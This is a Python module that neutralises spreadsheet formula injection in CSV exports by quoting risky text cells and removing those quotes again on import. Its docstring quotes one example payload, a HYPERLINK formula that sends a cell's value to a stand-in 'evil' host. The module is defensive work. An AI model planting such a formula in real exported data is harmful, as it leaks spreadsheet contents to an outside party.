"""Spreadsheet formula injection: text cells of a CSV export must never run as formulas.

A recorded window title such as ``=HYPERLINK("http://evil/?"&A1)`` becomes a live formula
when an analyst opens an exported CSV in Excel or LibreOffice. As OWASP recommends, every
text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
``'`` in front, which spreadsheets read as "this is text". A cell that already starts with
``'`` gets one too, so that `restore_formulas` can remove exactly the quotes that
`neutralise_formulas` added: our own CSV export imports back with the same values.

Only spreadsheet CSV is neutralised; it is the CSV that starts with a UTF-8 byte-order mark
(which also makes Excel read it as UTF-8), and that mark is how the importer recognises it.
"""

from __future__ import annotations

import polars as pl

#: A text cell starting with one of these is neutralised (OWASP's list, plus the quote).
NEEDS_QUOTE = r"^[=+\-@\t\r']"
#: The UTF-8 byte-order mark that starts every neutralised CSV file.
BOM = b"\xef\xbb\xbf"
_ADDED_QUOTE = r"^'[=+\-@\t\r']"


def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with a ``'`` before every text cell a spreadsheet would run as a formula.

    Example: ``neutralise_formulas(events).write_csv("events.csv", include_bom=True)``.
    """
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(NEEDS_QUOTE))
        .then(pl.lit("'") + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name, dtype in frame.schema.items()
        if dtype == pl.String
    )


def restore_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """Undo `neutralise_formulas`: drop the one ``'`` it put before a text cell."""
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(_ADDED_QUOTE))
        .then(pl.col(name).str.slice(1))
        .otherwise(pl.col(name))
        .alias(name)
        for name, dtype in frame.schema.items()
        if dtype == pl.String
    )
